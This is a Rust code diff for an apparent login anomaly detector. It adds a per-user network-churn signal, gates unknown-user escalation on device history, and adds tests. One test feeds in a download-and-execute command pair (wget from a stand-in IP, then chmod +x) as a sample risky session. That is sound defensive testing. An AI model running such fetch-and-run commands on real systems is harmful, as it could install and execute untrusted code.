@@ -29,7 +29,7 @@ use crate::fingerprint::{is_risky_command, Fingerprint, Protocol};
 pub const STATE_MAGIC: [u8; 4] = *b"BFPB";
 /// Version of the state layout below. A file of another version is refused
 /// (with a clear error) and the agent starts a fresh baseline.
-pub const STATE_VERSION: u16 = 1;
+pub const STATE_VERSION: u16 = 2;
 /// Source networks remembered per user (a travelling admin has a few; more
 /// would only remember attackers' networks if a bad session were ever learnt).
 pub const MAX_NETWORKS_PER_USER: usize = 8;
@@ -39,7 +39,7 @@ pub const MAX_COMMANDS_PER_USER: usize = 32;
 pub const MAX_USERS_LIMIT: usize = 4096;
 
 /// Number of novelty features, see [`NOVELTY_FEATURE_NAMES`].
-pub const NOVELTY_FEATURE_COUNT: usize = 10;
+pub const NOVELTY_FEATURE_COUNT: usize = 11;
 /// Names of [`Novelty::features`], in vector order.
 pub const NOVELTY_FEATURE_NAMES: [&str; NOVELTY_FEATURE_COUNT] = [
     "never_seen_user",
@@ -52,6 +52,7 @@ pub const NOVELTY_FEATURE_NAMES: [&str; NOVELTY_FEATURE_COUNT] = [
     "first_risky_command",
     "failure_spike",
     "login_spike",
+    "network_churn_for_user",
 ];
 
 /// Tuning of the baselines. Not persisted: it comes from the agent's config.
@@ -80,6 +81,10 @@ pub struct BaselineConfig {
     /// Fewest failed logins in one hour that can be a failure spike, whatever
     /// the baseline (a user mistyping thrice is no spike). Default 20.
     pub spike_min_failures: u32,
+    /// A user arriving from this many networks new to them within 24 hours
+    /// (this one included) is not travelling: the account is being used
+    /// from all over. Default 4.
+    pub churn_networks: u32,
     /// Fewest logins in one hour that can be a login spike. Default 10.
     pub spike_min_logins: u32,
     /// Hours the device rates need before spikes are judged. Default 24.
@@ -96,6 +101,7 @@ impl Default for BaselineConfig {
             unusual_z: 3.0,
             spike_z: 3.0,
             spike_min_failures: 20,
+            churn_networks: 4,
             spike_min_logins: 10,
             min_hours: 24,
         }
@@ -159,6 +165,13 @@ pub struct Novelty {
     pub failure_spike: bool,
     /// The device sees far more logins this hour than usual.
     pub login_spike: bool,
+    /// The user's account arrives from many networks new to it within a day
+    /// (see [`BaselineConfig::churn_networks`]).
+    pub network_churn: bool,
+    /// The device has learnt at least `min_sessions` sessions (of any
+    /// users): only then is a never-seen user news. On a fresh install
+    /// every user is new, the admins' set-up sessions first of all.
+    pub device_has_history: bool,
     /// The flags above in an operator's words.
     pub reasons: Vec<String>,
 }
@@ -179,6 +192,7 @@ impl Novelty {
             f(self.first_risky_command),
             f(self.failure_spike),
             f(self.login_spike),
+            f(self.network_churn),
         ]
     }
 
@@ -189,10 +203,16 @@ impl Novelty {
 
     /// Whether the novelty alone makes the session Suspicious, whatever the
     /// model says: a risky command the user never ran, together with a new
-    /// network, a rare hour or an unknown user. A new network or a rare hour
-    /// alone does not: travelling and night-shift admins do both.
+    /// network, a rare hour or (on a device with a history) an unknown user;
+    /// or an account arriving from network after network within a day. A new
+    /// network or a rare hour alone does not: travelling and night-shift
+    /// admins do both.
     pub fn escalates(&self) -> bool {
-        self.first_risky_command && (self.new_network_for_user || self.rare_hour_for_user || self.never_seen_user)
+        self.network_churn
+            || (self.first_risky_command
+                && (self.new_network_for_user
+                    || self.rare_hour_for_user
+                    || (self.never_seen_user && self.device_has_history)))
     }
 }
 
@@ -359,6 +379,8 @@ impl Ewma {
 #[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
 struct NetworkSeen {
     key: u64,
+    /// Unix hour of the first normal login from it (for churn).
+    first_hour: u32,
     /// Unix hour of the last normal login from it (for LRU replacement).
     last_hour: u32,
     logins: u16,
@@ -559,6 +581,8 @@ impl Baselines {
         let mut n = Novelty::default();
         let known = self.find(user).filter(|u| u.sessions > 0);
         let mature = known.filter(|u| u.sessions >= cfg.min_sessions);
+        let learnt: u32 = self.state.users.iter().map(|u| u.sessions).fold(0, u32::saturating_add);
+        n.device_has_history = learnt >= cfg.min_sessions;
 
         match known {
             None => {
@@ -570,6 +594,14 @@ impl Baselines {
                     if !u.knows_network(network_key(ip)) {
                         n.new_network_for_user = true;
                         n.reasons.push(format!("first login by {user} from {} ({ip})", network_name(ip)));
+                        // Networks first seen in the last 24 hours, this one included.
+                        let day_ago = unix_hour(session.start).saturating_sub(24);
+                        let fresh = 1 + u.networks.iter().filter(|n| n.first_hour >= day_ago).count() as u32;
+                        if u.networks.len() > 1 && fresh >= cfg.churn_networks {
+                            n.network_churn = true;
+                            n.reasons
+                                .push(format!("{user} logged in from {fresh} networks new to them within 24 hours"));
+                        }
                     }
                 }
                 if u.protocols & protocol_bit(fp.protocol) == 0 {
@@ -713,7 +745,7 @@ impl Baselines {
                 seen.last_hour = seen.last_hour.max(hour_now);
                 seen.logins = seen.logins.saturating_add(1);
             } else {
-                let entry = NetworkSeen { key: net, last_hour: hour_now, logins: 1 };
+                let entry = NetworkSeen { key: net, first_hour: hour_now, last_hour: hour_now, logins: 1 };
                 if let Err(entry) = u.networks.push(entry) {
                     // Full: the network unused the longest goes.
                     if let Some(oldest) = u.networks.iter_mut().min_by_key(|n| (n.last_hour, n.logins)) {
@@ -762,14 +794,17 @@ impl Baselines {
         if bytes.len() < STATE_MAGIC.len() || bytes[..STATE_MAGIC.len()] != STATE_MAGIC {
             return Err(Error::Baseline("not a baseline state file (bad magic)".into()));
         }
-        let (state, rest): (State, &[u8]) =
-            postcard::take_from_bytes(bytes).map_err(|e| Error::Baseline(format!("decode: {e}")))?;
-        if state.version != STATE_VERSION {
+        // The version first: another layout would not even decode.
+        let (_, version): ([u8; 4], u16) = postcard::take_from_bytes::<([u8; 4], u16)>(bytes)
+            .map(|(header, _)| header)
+            .map_err(|e| Error::Baseline(format!("decode: {e}")))?;
+        if version != STATE_VERSION {
             return Err(Error::Baseline(format!(
-                "state version {} is not supported (this build reads {STATE_VERSION})",
-                state.version
+                "state version {version} is not supported (this build reads {STATE_VERSION})"
             )));
         }
+        let (state, rest): (State, &[u8]) =
+            postcard::take_from_bytes(bytes).map_err(|e| Error::Baseline(format!("decode: {e}")))?;
         if !rest.is_empty() {
             return Err(Error::Baseline(format!("{} trailing bytes after the state", rest.len())));
         }
@@ -989,6 +1024,49 @@ mod tests {
         // An open session's length is not final: not judged.
         let n = b.novelty(&SessionFacts::new("alice", ip("198.51.100.3"), T0 + 22 * DAY, &f, &[], true));
         assert!(!n.unusual_session_length && !n.unusual_command_cadence);
+    }
+
+    #[test]
+    fn an_unknown_user_downloading_escalates_only_on_a_device_with_a_history() {
+        let f = fp(10, 5.0, 2, 0, Protocol::Ssh);
+        let cmds: Vec<String> = ["wget http://203.0.113.9/x", "chmod +x x"].map(String::from).into();
+        // A fresh install: the admin's set-up session fetching packages.
+        let fresh = Baselines::new(BaselineConfig::default());
+        let n = fresh.novelty(&SessionFacts::new("ubuntu", ip("198.51.100.7"), T0, &f, &cmds, false));
+        assert!(n.never_seen_user && n.first_risky_command && !n.device_has_history);
+        assert!(!n.escalates());
+        // Three weeks of alice: a stranger doing the same is news.
+        let b = alice_at_home();
+        let n = b.novelty(&SessionFacts::new("mallory", ip("198.51.100.7"), T0 + 22 * DAY, &f, &cmds, false));
+        assert!(n.never_seen_user && n.device_has_history && n.escalates());
+    }
+
+    #[test]
+    fn an_account_arriving_from_network_after_network_within_a_day_escalates() {
+        let f = fp(10, 1.0, 0, 0, Protocol::Ssh);
+        let login = |b: &mut Baselines, addr: &str, at: i64| {
+            let s = SessionFacts::new("alice", ip(addr), at, &f, &[], false);
+            let n = b.novelty(&s);
+            b.learn(&s, n.escalates());
+            n
+        };
+        // A travelling admin: home, then an airport and a hotel the same day.
+        let mut b = alice_at_home();
+        let day = T0 + 30 * DAY;
+        assert!(!login(&mut b, "192.0.2.10", day + 8 * 3600).escalates());
+        assert!(!login(&mut b, "203.0.113.80", day + 20 * 3600).escalates());
+        // A third and a fourth new network within 24 hours: not travelling.
+        let n = login(&mut b, "198.18.7.1", day + 22 * 3600);
+        assert!(n.new_network_for_user && !n.network_churn, "{n:?}");
+        let n = login(&mut b, "100.64.9.9", day + 23 * 3600);
+        assert!(n.network_churn && n.escalates(), "{n:?}");
+        assert!(n.reasons.contains(&"alice logged in from 4 networks new to them within 24 hours".to_string()));
+        // The same four networks one a day: no churn.
+        let mut b = alice_at_home();
+        for (k, addr) in ["192.0.2.10", "203.0.113.80", "198.18.7.1", "100.64.9.9"].iter().enumerate() {
+            let n = login(&mut b, addr, day + k as i64 * DAY + 10 * 3600);
+            assert!(n.new_network_for_user && !n.network_churn, "{addr}: {n:?}");
+        }
     }
 
     #[test]
